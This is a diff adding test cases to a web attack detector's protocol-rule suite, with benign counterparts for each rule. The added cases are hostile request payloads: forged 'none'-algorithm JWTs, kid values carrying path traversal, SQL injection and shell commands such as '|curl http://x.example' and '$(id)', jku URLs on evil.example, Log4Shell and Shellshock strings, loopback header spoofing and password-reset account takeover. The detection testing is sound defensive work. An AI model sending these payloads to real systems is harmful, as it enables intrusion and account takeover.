@@ -6,6 +6,9 @@ assertion is on the rule ids the protocol detector reports and on the resulting 
 
 from __future__ import annotations
 
+import base64
+import json
+
 import pytest
 
 from bastion.detect import protocol as P
@@ -18,6 +21,17 @@ FORM = {"Content-Type": "application/x-www-form-urlencoded"}
 
 def R(method="GET", target="/", **kw):
     return {"method": method, "target": target, **kw}
+
+
+def _b64u(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def _jwt(header: dict, sig: bytes | None = b"\x8f" * 32, claims: dict | None = None) -> str:
+    """A compact JWS with this header (`sig=None`: an empty signature)."""
+    head = _b64u(json.dumps(header, separators=(",", ":")).encode())
+    body = _b64u(json.dumps(claims or {"sub": "1", "role": "admin"}, separators=(",", ":")).encode())
+    return f"{head}.{body}." + (_b64u(sig) if sig is not None else "")
 
 
 # (rule, request kwargs) pairs: the rule must be reported.
@@ -200,6 +214,75 @@ MUST_MATCH = [
     # {"alg":"none"} / {"typ":"JWT","alg":"NONE"}, with or without an empty signature
     (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."})),
     (P.JWT_UNSIGNED, R(headers={"Authorization": "bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJOT05FIn0.eyJzdWIiOiIxIn0.x"})),
+    # a JWT anywhere: a cookie, a JSON field, a query parameter; `{ "alg"` with a blank
+    (P.JWT_UNSIGNED, R(headers={"Cookie": "lang=en; session=" + _jwt({"alg": "nOnE"}, None)})),
+    (P.JWT_UNSIGNED, R("POST", "/auth/refresh", headers=JSON,
+                       body=b'{"refresh_token": "' + _jwt({"alg": "none"}, None).encode() + b'"}')),
+    (P.JWT_UNSIGNED, R(target="/download?token=" + _jwt({"alg": "None", "typ": "JWT"}, b"x"))),
+    (P.JWT_UNSIGNED, R(headers={"X-Auth-Token": _b64u(b'{ "alg": "none" }') + ".eyJzdWIiOiIxIn0."})),
+    (P.JWT_NO_SIGNATURE, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256"}, None)})),
+    (P.JWT_NO_SIGNATURE, R(headers={"Authorization": "Bearer " + _jwt({"alg": "ES256"}, bytes(64))})),
+    (P.JWT_NO_SIGNATURE, R(headers={"Authorization": "Bearer " + _jwt({"alg": "ES256"},
+                                                                    b"0\x06\x02\x01\x00\x02\x01\x00")})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "../../../../dev/null"})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "x' UNION SELECT 'k'-- "})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "k1|curl http://x.example"})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "/proc/sys/kernel/hostname"})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "$(id)"})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": {"$ne": None}})})),
+    (P.JWT_UNSIGNED, R(target="/verify?t=" + _jwt({"alg": "none"}, None).replace(".", "%2E"))),
+    (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer " + _b64u(b'{"alg":"none"}') + "==.eyJzdWIiOiIxIn0."})),
+    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt({"alg": "RS256", "jku": "https://oast.example/j.json"})})),
+    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "x5u": "https://evil.example/c.pem"}, claims={"iss": "https://auth.acme.example/"})})),
+    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "jku": "http://auth.acme.example/jwks"}, claims={"iss": "https://auth.acme.example/"})})),
+    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "jku": "https://169.254.169.254/jwks"}, claims={"iss": "https://auth.acme.example/"})})),
+    (P.JWT_EMBEDDED_KEY, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "jwk": {"kty": "RSA", "n": "AQAB", "e": "AQAB"}})})),
+    (P.PATH_OVERRIDE, R(target="/", headers={"X-Original-URL": "/admin/users/delete?id=1"})),
+    (P.PATH_OVERRIDE, R(target="/anything", headers={"X-Rewrite-URL": "/admin/config"})),
+    (P.LOOPBACK_CLAIM, R(target="/api/v1/orders", headers={"X-Forwarded-For": "127.0.0.1"})),
+    (P.LOOPBACK_CLAIM, R(target="/api/v1/orders", headers={"X-Real-IP": "::1"})),
+    (P.LOOPBACK_ADMIN, R("PUT", "/api/v2/cmdb/system/admin/admin", headers={
+        "Forwarded": 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";', "User-Agent": "Report Runner"})),
+    (P.LOOPBACK_ADMIN, R(target="/admin/", headers={"Host": "localhost", "X-Forwarded-Host": "127.0.0.1"})),
+    (P.LOOPBACK_ADMIN, R(target="/actuator/env", headers={"X-Custom-IP-Authorization": "localhost"})),
+    (P.LOOPBACK_ADMIN, R(target="/manager/html", headers={"True-Client-IP": "2130706433"})),
+    (P.HOST_LOOPBACK_ADMIN, R(target="/admin/", headers={"Host": "localhost"})),
+    (P.FORWARDED_HOST, R(target="/api/v1/products",
+                         headers={"Host": "shop.example", "X-Forwarded-Host": "evil.example"})),
+    (P.FORWARDED_HOST_LINK, R("POST", "/api/v1/password/forgot", headers={
+        **JSON, "Host": "shop.example", "X-Forwarded-Host": "evil.example"}, body=b'{"email": "v@shop.example"}')),
+    (P.FORWARDED_HOST_LINK, R("POST", "/users/invitations", headers={
+        **JSON, "Host": "shop.example", "Forwarded": "for=203.0.113.9;host=evil.example"}, body=b"{}")),
+    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/admin/users/17", headers={"X-HTTP-Method-Override": "DELETE"})),
+    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/users/17", headers={"X-Original-Method": "PUT"})),
+    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/users/17?_method=DELETE")),
+    (P.IDENTITY_ARRAY, R("POST", "/users/password", headers=FORM,
+                         body=b"authenticity_token=x&user%5Bemail%5D%5B%5D=victim%40shop.example"
+                              b"&user%5Bemail%5D%5B%5D=attacker%40evil.example")),
+    (P.IDENTITY_ARRAY, R("POST", "/api/v1/password/reset", headers=JSON,
+                         body=b'{"user": {"email": ["victim@shop.example", "attacker@evil.example"]}}')),
+    (P.IDENTITY_ARRAY, R(target="/api/v1/forgot?email=victim%40shop.example&email=attacker%40evil.example")),
+    (P.IDENTITY_ARRAY_OTHER, R("POST", "/api/v1/newsletter", headers=JSON,
+                               body=b'{"email": ["a@shop.example", "b@evil.example"]}')),
+    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "${jndi:ldap://x.example/a}"})),
+    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "en'||sleep(5)||'"})),
+    (P.NEGOTIATION_INVALID, R(headers={"Accept-Encoding": "gzip;$(id)"})),
+    (P.NEGOTIATION_INVALID, R(headers={"Accept": "${${lower:j}ndi:ldap://x.example/a}"})),
+    (P.NEGOTIATION_INVALID, R(headers={"Cache-Control": "() { :; }; echo; id"})),
+    (P.NEGOTIATION_INVALID, R(headers={"Connection": "keep-alive, ${jndi:ldap://x.example/c}"})),
+    (P.PERCENT_INVALID, R(target="/api/v1/products?id=%1%20%A%N%D%20%S%L%E%E%P%(%5%)")),
+    (P.PERCENT_INVALID, R(target="/api/v1/products?id=1%20%S%E%L%E%C%T%201")),
+    (P.PERCENT_INVALID, R("POST", "/login", headers=FORM, body=b"user=%a%d%m%i%n&pass=x")),
+    (P.PATH_ALIAS, R(target="/static../app/settings.py")),
+    (P.PATH_ALIAS, R(target="/assets..%2f.env")),
+    (P.SCANNER_HEADER, R(headers={"Acunetix-Aspect": "enabled", "Acunetix-Aspect-Queries": "filelist;aspectalerts"})),
+    (P.SCANNER_HEADER, R(headers={"X-Scan-Memo": "Category=\"Audit\""})),
+    (P.REDIRECT_ENCODED, R(target="/logout?continue=https:%2F%2Fevil.example%2Fphish")),
+    (P.REDIRECT_ENCODED, R(target="/login?next=https:%5C%5Cevil.example")),
 ]
 
 # Requests that the rule must NOT report (benign, if sometimes odd, clients).
@@ -336,6 +419,59 @@ MUST_NOT_MATCH = [
     (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer opaque-token-1234567890"})),
     (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer eyJ!!!.x.y"})),
     (P.JWT_UNSIGNED, R(headers={"Authorization": "Basic YWxpY2U6c2VjcmV0"})),
+    # ordinary tokens: RS256/ES256 with a rotation, UUID, thumbprint or URL-safe kid; a DPoP proof;
+    # a JWKS-hosting issuer; base64 JSON state that is no JWT; a detached-payload JWS
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "RS256", "typ": "JWT", "kid": "2024-05-rot"})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "ES256", "kid": "3f2a1c7e-5b9d-4e8a-a1b2-0c9d8e7f6a5b"})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "kid": "nOwS6fJx_Xq9-K8RtY3zH2VbM1cLdEpA/+=="})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "kid": "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"})})),
+    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "EdDSA", "kid": "did:web:acme.example#key-1"})})),
+    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "jku": "https://auth.acme.example/.well-known/jwks.json"},
+        claims={"iss": "https://auth.acme.example/"})})),
+    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
+        {"alg": "RS256", "x5u": "https://keys.acme.example/signing.pem"}, claims={"iss": "https://login.acme.example"})})),
+    (P.JWT_EMBEDDED_KEY, R("POST", "/token", headers={"DPoP": _jwt(
+        {"typ": "dpop+jwt", "alg": "ES256", "jwk": {"kty": "EC", "crv": "P-256", "x": "a", "y": "b"}})})),
+    (P.JWT_NO_SIGNATURE, R(headers={"x-jws-signature": _jwt({"alg": "PS256", "kid": "k", "b64": False}).replace(
+        ".eyJzdWIiOiIxIiwicm9sZSI6ImFkbWluIn0.", "..")})),
+    (P.JWT_UNSIGNED, R(target="/auth/callback?state=eyJyZXR1cm5UbyI6Ii9vcmRlcnMifQ&code=abc")),
+    (P.JWT_UNSIGNED, R("POST", "/notes", headers=JSON, body=b'{"text": "they say eyJ is how JWTs start. ok."}')),
+    (P.PATH_OVERRIDE, R(target="/orders/7", headers={"X-Original-URL": "/orders/7"})),
+    (P.LOOPBACK_CLAIM, R(headers={"X-Forwarded-For": "10.20.0.4, 203.0.113.195"})),
+    (P.LOOPBACK_CLAIM, R(headers={"X-Forwarded-For": "203.0.113.7, 127.0.0.1"})),
+    (P.LOOPBACK_ADMIN, R(target="/api/v1/products", headers={"X-Forwarded-For": "127.0.0.1"})),
+    (P.HOST_LOOPBACK_ADMIN, R(target="/api/v1/orders", headers={"Host": "localhost:8080"})),
+    (P.HOST_LOOPBACK_ADMIN, R(target="/admin/", headers={"Host": "shop.example"})),
+    (P.FORWARDED_HOST, R(headers={"Host": "shop.example", "X-Forwarded-Host": "shop.example:443"})),
+    (P.FORWARDED_HOST_LINK, R("POST", "/api/v1/orders", headers={
+        **JSON, "Host": "shop.example", "X-Forwarded-Host": "cdn.example"}, body=b"{}")),
+    (P.METHOD_OVERRIDE_SAFE, R("POST", "/api/v1/users/17", headers={"X-HTTP-Method-Override": "DELETE"})),
+    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/users/17", headers={"X-HTTP-Method-Override": "GET"})),
+    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/methods?_method_name=delete")),
+    (P.IDENTITY_ARRAY, R("POST", "/api/v1/invitations", headers=JSON,
+                         body=b'{"emails": ["a@x.example", "b@y.example"], "role": "viewer"}')),
+    (P.IDENTITY_ARRAY, R("POST", "/api/v1/mail/send", headers=FORM,
+                         body=b"to%5B%5D=a%40x.example&to%5B%5D=b%40y.example&subject=hi")),
+    (P.IDENTITY_ARRAY, R("POST", "/users/password", headers=FORM, body=b"user%5Bemail%5D=victim%40shop.example")),
+    (P.IDENTITY_ARRAY_OTHER, R("POST", "/api/v1/contacts", headers=JSON,
+                               body=b'{"email": "a@x.example", "cc": ["b@y.example", "c@z.example"]}')),
+    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "en-US,en;q=0.9,de-CH;q=0.8,*;q=0.5"})),
+    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "zh-Hans-CN, en_US.UTF-8"})),
+    (P.NEGOTIATION_INVALID, R(headers={"Accept-Encoding": "gzip, deflate, br, zstd", "TE": "trailers"})),
+    (P.NEGOTIATION_INVALID, R(headers={"If-None-Match": 'W/"{4F5B2C10-88A1-4B3D-9C1E-2A7F0D3E6B91},3"'})),
+    (P.NEGOTIATION_INVALID, R(headers={"Sec-CH-UA": '"Chromium";v="125", "Not.A/Brand";v="24"'})),
+    (P.PERCENT_INVALID, R(target="/search?q=50%25+off&d=100%")),
+    (P.PERCENT_INVALID, R(target="/search?q=%E8%BF%99%E4%B8%AA&x=%u4e2d%u6587")),
+    (P.PATH_ALIAS, R(target="/files/get/..")),
+    (P.PATH_ALIAS, R(target="/docs/v1.2..v1.3/diff")),
+    (P.PATH_ALIAS, R(target="/a/b/../c")),
+    (P.SCANNER_HEADER, R(headers={"X-Note": "Acunetix-Aspect"})),
+    (P.REDIRECT_ENCODED, R(target="/login?next=https%3A%2F%2Fshop.example%2Forders")),
+    (P.REDIRECT_ENCODED, R(target="/api/v1/webhooks?endpoint=https:%2F%2Fhooks.example%2Fx")),
 ]
 
 
